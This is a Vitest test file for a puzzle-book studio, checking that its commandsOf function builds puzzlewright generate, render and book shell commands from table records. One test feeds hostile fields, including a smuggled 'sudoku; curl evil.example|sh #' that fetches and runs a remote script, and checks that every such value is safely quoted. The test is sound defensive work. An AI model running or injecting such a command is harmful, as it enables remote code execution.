// The commands that do again what the studio has done.

import { describe, expect, it } from 'vitest'
import { commandsOf } from '../../src/studio/app/commands.ts'
import type { TablePiece } from '../../src/studio/app/document.ts'

const piece = (key: number, made?: TablePiece['made']): TablePiece => ({
  key,
  family: 'sudoku',
  draft: { shape: '9x9', clues: [] },
  id: `sudoku:9x9:${key}`,
  ...(made && { made }),
})
const book = { title: 'Stille Zahlen', language: 'de' } as const
const order = { family: 'sudoku', shape: '9x9', order: 'stars=2,minimal' }

describe('commands of a table', () => {
  it('make the puzzles that were made, and print all of them from their records', () => {
    const made = (run: string, number: number) => ({ order, run, number, seed: `${run}/${number}` })
    const pieces = [piece(1, made('1', 0)), piece(2), piece(3, made('1', 2)), piece(4, made('a/b', 0))]
    expect(commandsOf(pieces, book)).toEqual([
      'puzzlewright generate sudoku --shape 9x9 --stars 2 --minimal -n 3 --seed 1',
      'puzzlewright generate sudoku --shape 9x9 --stars 2 --minimal -n 1 --seed a/b',
      'puzzlewright render puzzles.jsonl --per-page 4 --labels --out puzzles.pdf',
      'puzzlewright render puzzles.jsonl --per-page 4 --labels --solution --out solutions.pdf',
      "puzzlewright book --title 'Stille Zahlen' --language de --puzzles puzzles.jsonl --out book.pdf",
    ])
  })

  it('are words of the puzzles and nothing else, even if the table came from a stranger', () => {
    const hostile = {
      family: 'sudoku; curl evil.example|sh #',
      shape: '9x9 $(date)',
      order: 'stars=`date`,min&imal',
    }
    const [command] = commandsOf([piece(1, { order: hostile, run: "it's", number: 0, seed: "it's/0" })], book)
    expect(command).toBe(
      "puzzlewright generate 'sudoku; curl evil.example|sh #' --shape '9x9 $(date)' --stars '`date`' '--min&imal' -n 1 --seed 'it'\\''s'",
    )
  })

  it('are those that print for puzzles that were set or read, and none for an empty table', () => {
    expect(commandsOf([piece(1)], book)).toHaveLength(3)
    expect(commandsOf([], book)).toEqual([])
  })
})
